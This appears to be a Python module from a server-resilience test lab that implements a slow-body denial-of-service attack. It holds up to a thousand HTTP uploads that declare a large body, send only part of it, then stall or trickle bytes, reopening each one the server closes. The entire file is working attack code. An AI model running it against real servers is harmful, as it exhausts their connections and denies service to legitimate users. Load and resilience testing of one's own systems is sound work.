"""Uploads that stall: a complete head, part of a body, then nothing or one byte at a time.

``python -m onceward_lab.attack.slow_bodies URL`` runs them in a process of their own until its
standard input is closed, and then prints what they got as one line of JSON.
"""

import argparse
import asyncio
import json
import sys
from collections import Counter
from collections.abc import Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Final
from urllib.parse import urlsplit

__all__ = ["SlowBodies", "SlowBodiesReport", "main"]

_CONNECT_AT_ONCE: Final = 100
# As a client that stalls, not one that floods.
_RECONNECT_SECONDS: Final = 5.0


@dataclass(slots=True)
class SlowBodiesReport:
    """Responses of the uploads so far."""

    # Connections that are open now.
    open: int = 0
    # Connections that were made, and those that failed.
    made: int = 0
    refused: int = 0
    # Connections that the server has closed.
    closed: int = 0
    # Responses by status.
    statuses: Counter[int] = field(default_factory=Counter)


class SlowBodies:
    """Keeps ``count`` stalled uploads open; one that the server closes is made again."""

    def __init__(
        self,
        url: str,
        *,
        count: int,
        headers: Mapping[str, str] | None = None,
        declared_bytes: int = 1_000_000,
        sent_bytes: int = 60_000,
        byte_every_seconds: float | None = None,
    ) -> None:
        """``byte_every_seconds`` adds a byte now and then; None sends nothing more."""
        target = urlsplit(url)
        self._host, self._port = target.hostname or "127.0.0.1", target.port or 80
        self._count = count
        self._sent_bytes = sent_bytes
        self._byte_every_seconds = byte_every_seconds
        lines = [
            f"POST {target.path or '/'} HTTP/1.1",
            f"Host: {target.netloc}",
            "Content-Type: application/json",
            f"Content-Length: {declared_bytes}",
            *(f"{name}: {value}" for name, value in (headers or {}).items()),
        ]
        self._head = ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")
        self._connecting = asyncio.Semaphore(_CONNECT_AT_ONCE)
        self.report = SlowBodiesReport()

    async def run(self) -> None:
        """Upload until cancelled."""
        async with asyncio.TaskGroup() as group:
            for number in range(self._count):
                group.create_task(self._stall_forever(number))

    async def _stall_forever(self, number: int) -> None:
        while True:
            with suppress(OSError):
                await self._stall(number)
            await asyncio.sleep(_RECONNECT_SECONDS)

    async def _stall(self, number: int) -> None:
        try:
            async with self._connecting:
                reader, writer = await asyncio.open_connection(self._host, self._port)
        except OSError:
            self.report.refused += 1
            raise
        self.report.made += 1
        self.report.open += 1
        try:
            key = f"Idempotency-Key: slow-{number}\r\n\r\n".encode()
            writer.write(self._head[:-2] + key + b"[" + b"1," * (self._sent_bytes // 2))
            trickle = asyncio.create_task(self._trickle(writer))
            try:
                status_line = await reader.readline()
                if status_line:
                    self.report.statuses[int(status_line.split()[1])] += 1
                while await reader.read(65536):
                    pass
            finally:
                trickle.cancel()
            self.report.closed += 1
        finally:
            self.report.open -= 1
            writer.transport.abort()

    async def _trickle(self, writer: asyncio.StreamWriter) -> None:
        while self._byte_every_seconds is not None:
            await asyncio.sleep(self._byte_every_seconds)
            writer.write(b" ")


async def _run(attack: SlowBodies) -> None:
    loop = asyncio.get_running_loop()
    task = asyncio.create_task(attack.run())
    # Whatever started this process closes the input, also when it is killed.
    await loop.run_in_executor(None, sys.stdin.read)
    report = attack.report
    line = {
        "open": report.open,
        "made": report.made,
        "refused": report.refused,
        "closed": report.closed,
        "statuses": {str(status): n for status, n in sorted(report.statuses.items())},
    }
    print(json.dumps(line), flush=True)
    task.cancel()
    with suppress(asyncio.CancelledError):
        await task


def main() -> None:
    """Run stalled uploads until standard input is closed."""
    parser = argparse.ArgumentParser(description="Open uploads that stall.")
    parser.add_argument("url")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--sent-bytes", type=int, default=60_000)
    parser.add_argument("--byte-every-seconds", type=float)
    parser.add_argument("--token", help="sign in with this bearer token")
    arguments = parser.parse_args()
    headers = {"Authorization": f"Bearer {arguments.token}"} if arguments.token else {}

    async def run() -> None:
        await _run(
            SlowBodies(
                arguments.url,
                count=arguments.count,
                headers=headers,
                sent_bytes=arguments.sent_bytes,
                byte_every_seconds=arguments.byte_every_seconds,
            )
        )

    asyncio.run(run())


if __name__ == "__main__":
    main()
